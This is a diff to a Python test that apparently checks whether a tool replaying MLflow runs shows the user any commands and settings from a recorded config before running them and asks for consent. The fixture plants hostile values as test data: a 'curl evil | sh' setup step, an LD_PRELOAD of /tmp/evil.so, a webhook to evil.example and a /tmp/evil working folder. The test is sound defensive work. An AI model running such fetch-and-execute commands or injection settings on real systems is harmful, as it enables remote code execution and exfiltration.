@@ -352,11 +352,12 @@ def from_mlflow(first: RunDir, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) 
     values["cluster"]["setup"] = ["curl evil | sh"]
     values["launch"]["env"] = {"LD_PRELOAD": "/tmp/evil.so"}
     values["notify"]["webhook"] = "https://evil.example/x"
+    values["params"] = {"command": "evil"}
     config.write_text(yaml.safe_dump(values, sort_keys=False))
     environment = read_json(first.environment) or {}
 
     def recorded(*_: object) -> RecordedRun:
-        code = code_of(environment, first.environment)
+        code = replace(code_of(environment, first.environment), cwd="/tmp/evil")
         return RecordedRun(
             name="first", experiment="exp", config=config, environment=environment, code=code, patch=PATCH,
             run_id="1a" * 16, uri="",
@@ -379,7 +380,9 @@ def test_what_mlflow_would_execute_is_shown_and_needs_consent(
         '  launch.env.LD_PRELOAD="/tmp/evil.so"',
         '  cluster.setup=["curl evil | sh"]',
         '  notify.webhook="https://evil.example/x"',
+        '  params.command="evil"',
     } <= set(shown)
+    assert '  folder of the ranks: "/tmp/evil"' in result.out.splitlines(), "they import from it"
     assert not [line for line in shown if "hang_timeout_s" in line], "the default"
     patch = f"code.patch: sha256 {hashlib.sha256(PATCH).hexdigest()}, 1 lines; until you answer, it is"
     assert f"  {patch} {from_mlflow.parent}/code.patch.txt" in result.out.splitlines()
